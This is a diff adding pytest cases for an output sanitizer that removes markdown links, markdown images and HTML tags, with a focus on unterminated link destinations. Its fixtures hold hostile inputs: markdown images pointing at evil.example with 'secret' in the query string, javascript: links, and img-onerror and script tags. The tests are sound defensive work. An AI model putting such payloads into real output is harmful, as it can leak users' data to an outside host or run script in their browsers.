@@ -339,8 +339,8 @@ def test_hostile_markdown_finishes_and_stays_safe(name: str) -> None:
     for bad in ("javascript:", "<img", "<div"):
         assert bad not in out
     if name == "link_openers":
-        assert "](" not in out  # the unterminated destinations are removed, texts kept
-        assert out.strip("x") == ""
+        # Unterminated destinations are text; at forced cuts their "(" is escaped.
+        assert out.replace("]\\(", "](") == text
 
 
 def test_removing_a_link_never_forms_a_tag() -> None:
@@ -397,3 +397,89 @@ def test_repeated_lines_and_tags_each_get_their_own_finding() -> None:
     assert kinds.count("html") == 600
     assert kinds.count("markdown_link") == 300
     assert "` <b onclick=x>` <b>" in r.text
+
+
+# --- unterminated link destinations are text, not links ------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "hello [x](" * 3,
+        "see [docs](",
+        "![alt](",
+        "a [b [c](d",
+        "[x]( y z (w",
+        "a ] b](c",
+        "[[x](y",
+        "[x](<https://evil.example/a.png",
+        "[x](javascript:alert",
+        "![x](https://evil.example/?q=secret",
+    ],
+)
+def test_unterminated_destination_is_kept_as_text(text: str) -> None:
+    # No ")" follows: no renderer makes a link or an image of it, so nothing is dropped.
+    r = OutputSanitizer().sanitize(text)
+    assert r.text == text
+    assert not [f for f in r.findings if f.kind.startswith("markdown_")]
+
+
+def test_text_after_an_unterminated_destination_is_kept() -> None:
+    text = "Use the array syntax a[i](j) or see [docs]("
+    # "[i](j)" is a real link to a relative URL: its destination goes, the tail stays.
+    assert sanitize_output(text) == "Use the array syntax ai or see [docs]("
+    text = "First [x]( then a paragraph\n\nSecond [y](https://evil.example/?q=1) end"
+    assert sanitize_output(text) == "First [x]( then a paragraph\n\nSecond y end"
+
+
+def test_tags_inside_an_unterminated_destination_are_still_cleaned() -> None:
+    out = sanitize_output("[x](<img src=x onerror=alert> and <script>bad</script> text")
+    assert "<img" not in out and "onerror" not in out and "<script" not in out
+    assert out.endswith("and  text") and out.startswith("[x](")
+
+
+def test_destination_completed_later_in_the_text_is_judged() -> None:
+    for text in (
+        "![x](https://evil.example/?q=" + "secret)",
+        "![x](https://evil.example/?q=\n)",
+        "![x](https://evil.example/?q=\nsecret)",
+        "![x](https://evil.example/?q= secret data)",
+    ):
+        r = OutputSanitizer().sanitize(text)
+        assert r.text == IMAGE_MARKER, text
+        assert [f.kind for f in r.findings] == ["markdown_image"]
+
+
+def test_open_destination_holds_the_segment_cut_until_it_closes() -> None:
+    # A line end would allow a cut (past the 200-character minimum), but the destination is
+    # still open there: the ")" on a later line completes the image, which must be removed.
+    lead = "word " * 60
+    text = lead + "![x](https://evil.example/?q=\n" + "more text\n" + ") tail\n"
+    r = OutputSanitizer().sanitize(text)
+    assert "evil.example" not in r.text and IMAGE_MARKER in r.text
+    assert r.text.startswith(lead) and r.text.endswith(" tail\n")
+
+
+def test_destination_open_at_a_forced_cut_cannot_form_a_link_later() -> None:
+    # The segment ends (forced cut) with the destination open; the next segment closes it.
+    # The first segment's "(" is escaped, so the joined output renders as text, not an image.
+    s = OutputSanitizer(max_segment=512)
+    text = "a" * 300 + "![x](https://evil.example/?q=" + "b" * 300 + "secret) tail"
+    r = s.sanitize(text)
+    assert "](https://evil" not in r.text
+    assert r.text == text.replace("](", "]\\(")
+    assert [(f.kind, f.detail) for f in r.findings] == [("markdown_image", "unterminated")]
+    assert r.findings[0].start == text.index("](")
+
+
+def test_unterminated_destination_longer_than_the_cap_is_text() -> None:
+    text = "[a](https://ok.example/" + "x" * 3000 + " after"
+    assert OutputSanitizer(allowed_hosts=["ok.example"]).sanitize(text).text == text
+
+
+def test_removing_an_unclosed_tag_keeps_the_blank_line_after_it() -> None:
+    # The tag is dropped up to its line end only: joining the paragraphs would turn the open
+    # "[x](" of the first into a link to "evil" with the ")" of the second.
+    for text in ("[x](evil<x=\n\n) tail", "[x](<q\n\nevil) tail"):
+        out = sanitize_output(text)
+        assert "\n\n" in out and out.endswith(") tail"), out
